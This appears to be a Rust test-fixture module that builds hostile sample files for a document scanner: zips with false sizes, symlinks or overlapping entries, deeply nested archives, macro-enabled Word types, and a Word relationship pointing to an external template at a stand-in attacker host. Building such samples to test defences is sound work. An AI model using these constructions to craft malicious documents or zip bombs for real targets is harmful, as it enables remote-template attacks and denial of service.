//! Files nobody should send, made here: none of them lies in the repository.

use std::fmt::Write as _;
use std::io::Write as _;

use flate2::write::DeflateEncoder;
use flate2::{Compression, Crc};

/// A part of a zip, with every lie it may tell.
#[derive(Clone)]
pub struct Part {
    name: Vec<u8>,
    packed: Vec<u8>,
    crc: u32,
    size: u32,
    flags: u16,
    mode: u32,
    /// Has no bytes of its own, but those of the part before it.
    shares: bool,
}

pub fn part(name: impl AsRef<[u8]>, content: impl AsRef<[u8]>) -> Part {
    let content = content.as_ref();
    let mut crc = Crc::new();
    crc.update(content);
    let mut packer = DeflateEncoder::new(Vec::new(), Compression::best());
    packer.write_all(content).unwrap();
    Part {
        name: name.as_ref().to_vec(),
        packed: packer.finish().unwrap(),
        crc: crc.sum(),
        size: content.len().try_into().unwrap(),
        flags: 0,
        mode: 0o100_644,
        shares: false,
    }
}

impl Part {
    pub fn says(self, size: u32) -> Self {
        Self { size, ..self }
    }

    pub fn encrypted(self) -> Self {
        Self { flags: 1, ..self }
    }

    pub fn link(self) -> Self {
        Self {
            mode: 0o120_777,
            ..self
        }
    }

    pub fn shares(self) -> Self {
        Self {
            shares: true,
            ..self
        }
    }
}

/// The zip of these parts, byte by byte.
pub fn zip(parts: &[Part]) -> Vec<u8> {
    let (mut file, mut list) = (Vec::new(), Vec::new());
    let mut place = 0_u32;
    for part in parts {
        let mut common = Vec::new();
        for short in [20, part.flags, 8, 0, 0x5b77] {
            common.extend(short.to_le_bytes());
        }
        for long in [
            part.crc,
            u32::try_from(part.packed.len()).unwrap(),
            part.size,
        ] {
            common.extend(long.to_le_bytes());
        }
        common.extend(u16::try_from(part.name.len()).unwrap().to_le_bytes());
        common.extend([0, 0]);
        if !part.shares {
            place = file.len().try_into().unwrap();
            file.extend(b"PK\x03\x04");
            file.extend(&common);
            file.extend(&part.name);
            file.extend(&part.packed);
        }
        // Made by Unix, for the mode.
        list.extend(b"PK\x01\x02\x14\x03");
        list.extend(&common);
        list.extend([0; 6]);
        list.extend((part.mode << 16).to_le_bytes());
        list.extend(place.to_le_bytes());
        list.extend(&part.name);
    }
    let count = u16::try_from(parts.len()).unwrap().to_le_bytes();
    let (size, begin) = (
        u32::try_from(list.len()).unwrap(),
        u32::try_from(file.len()).unwrap(),
    );
    file.extend(list);
    file.extend(b"PK\x05\x06\0\0\0\0");
    file.extend(count);
    file.extend(count);
    file.extend(size.to_le_bytes());
    file.extend(begin.to_le_bytes());
    file.extend([0, 0]);
    file
}

const WORD: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const WORD_WITH_MACROS: &str = "application/vnd.ms-word.document.macroEnabled.main+xml";

fn types(main: &str) -> Part {
    part(
        "[Content_Types].xml",
        format!(
            "<Types><Override PartName=\"/word/document.xml\" ContentType=\"{main}\"/></Types>"
        ),
    )
}

/// The parts every Word document has.
fn word_parts(main: &str) -> Vec<Part> {
    vec![
        types(main),
        part("_rels/.rels", "<Relationships/>"),
        part("word/document.xml", "<w:document><w:body/></w:document>"),
    ]
}

/// A Word document with these parts more.
pub fn docx(more: &[Part]) -> Vec<u8> {
    zip(&[word_parts(WORD), more.to_vec()].concat())
}

/// One of the kind that may have macros.
pub fn docm(more: &[Part]) -> Vec<u8> {
    zip(&[word_parts(WORD_WITH_MACROS), more.to_vec()].concat())
}

/// A workbook with these parts more.
pub fn xlsx(more: &[Part]) -> Vec<u8> {
    let parts = vec![
        part("[Content_Types].xml", "<Types/>"),
        part("xl/workbook.xml", "<workbook/>"),
    ];
    zip(&[parts, more.to_vec()].concat())
}

/// What a part refers to elsewhere.
pub fn relation(kind: &str) -> Part {
    part(
        "word/_rels/settings.xml.rels",
        format!(
            "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"https://attacker.example/x\" TargetMode=\"External\"/></Relationships>"
        ),
    )
}

/// A zip in a zip in a zip.
pub fn nested(depth: usize) -> Vec<u8> {
    let mut inner = zip(&[part("a.txt", "deep")]);
    for _ in 1..depth {
        inner = zip(&[part("inner.zip", inner)]);
    }
    docx(&[part("word/embeddings/inner.zip", inner)])
}

/// A compound file (the old Office format) that names this stream.
pub fn compound(stream: &str) -> Vec<u8> {
    let mut file = vec![0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
    file.resize(1024, 0);
    file.extend(stream.encode_utf16().flat_map(u16::to_le_bytes));
    file.resize(2048, 0);
    file
}

pub fn png(width: u32, height: u32) -> Vec<u8> {
    let mut file = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    file.extend(width.to_be_bytes());
    file.extend(height.to_be_bytes());
    file.extend([8, 6, 0, 0, 0, 0, 0, 0, 0]);
    file
}

pub fn jpeg(width: u16, height: u16) -> Vec<u8> {
    let mut file = vec![0xff, 0xd8, 0xff, 0xe0, 0, 16];
    file.extend([0; 14]);
    file.extend([0xff, 0xc0, 0, 17, 8]);
    file.extend(height.to_be_bytes());
    file.extend(width.to_be_bytes());
    file.extend([3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0]);
    file
}

/// A PDF of one page whose catalogue has this too.
pub fn pdf_with(catalogue: &str) -> Vec<u8> {
    let objects = [
        format!("<< /Type /Catalog /Pages 2 0 R {catalogue} >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>".to_owned(),
    ];
    let mut file = "%PDF-1.4\n".to_owned();
    let mut table = String::new();
    for (number, object) in (1..).zip(&objects) {
        let _ = writeln!(table, "{:010} 00000 n ", file.len());
        let _ = write!(file, "{number} 0 obj\n{object}\nendobj\n");
    }
    let start = file.len();
    let _ = write!(
        file,
        "xref\n0 4\n0000000000 65535 f \n{table}trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n"
    );
    file.into_bytes()
}

pub fn mail(body: &str) -> Vec<u8> {
    format!("From: a@b.example\r\nTo: c@d.example\r\nSubject: Work\r\n\r\n{body}").into_bytes()
}
